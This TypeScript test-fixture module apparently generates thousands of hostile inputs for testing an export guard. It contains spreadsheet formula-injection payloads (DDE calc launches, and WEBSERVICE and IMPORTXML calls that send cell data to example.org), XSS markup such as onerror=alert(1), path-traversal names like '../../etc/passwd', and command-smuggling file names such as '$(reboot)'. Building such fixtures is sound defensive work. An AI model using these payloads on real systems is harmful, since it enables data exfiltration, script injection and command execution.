/** Dangerous texts, generated: what spreadsheets run, what browsers run, what XML cannot hold, what file systems refuse. */
import { EVERYTHING } from "../representatives";

const TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "|", "%"];
const LEADS = ["", " ", "\t", "\r", "\n", "\u00A0", "\u200B", "\uFEFF", '"', "'", "\u202E", "\u0000", " \t\u200F"];
const BODIES = [
  "1+1",
  "SUM(A1:A9)",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org/?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
  'WEBSERVICE("http://example.org/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|'/C calc'!A0",
  "A1",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "(1)",
  "NOW()",
  "-1",
  "+x",
];
const TAILS = ["", ";=1+1", "\n=1+1", "\t=1+1", ",=1+1", '","=1+1'];

/** 12,012 texts; those that are plain signed numbers are none of them. */
export const FORMULAS: readonly string[] = TRIGGERS.flatMap((trigger) =>
  LEADS.flatMap((lead) => BODIES.flatMap((body) => TAILS.map((tail) => `${lead}${trigger}${body}${tail}`))),
);

/**
 * Those of them that other programs are given: in `npm test` every fifth, which meets every trigger, lead, body and tail. Our own
 * guard is given all.
 */
export const TAKEN_FORMULAS = EVERYTHING ? FORMULAS : FORMULAS.filter((_, index) => index % 5 === 0);

/** Signed and plain numbers as reports print them: never to be made text. */
export const NUMBERS: readonly string[] = ["-5", "+5", "-1,234", "-0.5", "1e6", "-1.5E+3", "34%", "-34%", "0", "1,667", ".5"];

const TAGS = [
  "script",
  "img",
  "svg",
  "iframe",
  "object",
  "style",
  "math",
  "a",
  "body",
  "details",
  "template",
  "form",
  "base",
  "link",
  "meta",
];
const ATTRIBUTES = [
  "",
  " onerror=alert(1)",
  " src=x onerror=alert(1)",
  " onload=alert(1)",
  ' href="javascript:alert(1)"',
  " style=background:url(x)",
  " ontoggle=alert(1) open",
  " xmlns:x=y x:href=z",
];
const BREAKS = [
  "",
  '"',
  "'",
  "`",
  "-->",
  "]]>",
  "</title>",
  "</style>",
  "</script>",
  "</td></tr></table>",
  "<!--",
  "<![CDATA[",
  "&lt;",
  "&#60;",
  "\u0000",
];
const CLOSES = [">", "/>", "", "\u0000>", ">]]>"];

/** 9,000 texts. */
export const MARKUP: readonly string[] = BREAKS.flatMap((lead) =>
  TAGS.flatMap((tag) => ATTRIBUTES.flatMap((attribute) => CLOSES.map((close) => `${lead}<${tag}${attribute}${close}`))),
);

/** What XML 1.0 cannot hold, or what parsers normalise. */
export const HOSTILE: readonly string[] = [
  "NUL\u0000here",
  "VT\u000Bhere",
  "ESC\u001Bhere",
  "FFFE\uFFFEhere",
  "half\uD800pair",
  "rtl\u202Eover\u202C",
  "]]>&amp;<b>",
  '" onmouseover="x',
  "a\r\nb\tc",
  "_x0041_ escape",
  "0012",
  "1/2",
  "1E5",
  "مرد‌ها",
  "😀 emoji 👩‍👩‍👧",
];

const RESERVED = "con prn aux nul com1 com2 com3 com4 com5 com6 com7 com8 com9 lpt1 lpt2 lpt3 lpt4 lpt5 lpt6 lpt7 lpt8 lpt9".split(" ");

/** Names that systems refuse, hide or misread. */
export const NAMES: readonly string[] = [
  ...RESERVED,
  ...RESERVED.map((name) => `${name.toUpperCase()}.txt`),
  ...[
    "",
    ".",
    "..",
    "...",
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "C:\\x",
    "/",
    "a/b",
    "~",
    "-rf",
    "--help",
    ".hidden",
    " lead",
    "trail. ",
    "a\u0000b",
  ],
  ...[
    "exe\u202Etxt.csv",
    "\u200Bzero",
    "x".repeat(300),
    "é".repeat(90),
    "日本語",
    "😀",
    'a:b*c?d"e<f>g|h',
    "%2e%2e%2f",
    "$(reboot)",
    "`id`",
    "a;b&c",
  ],
  ...FORMULAS.slice(0, 400),
];
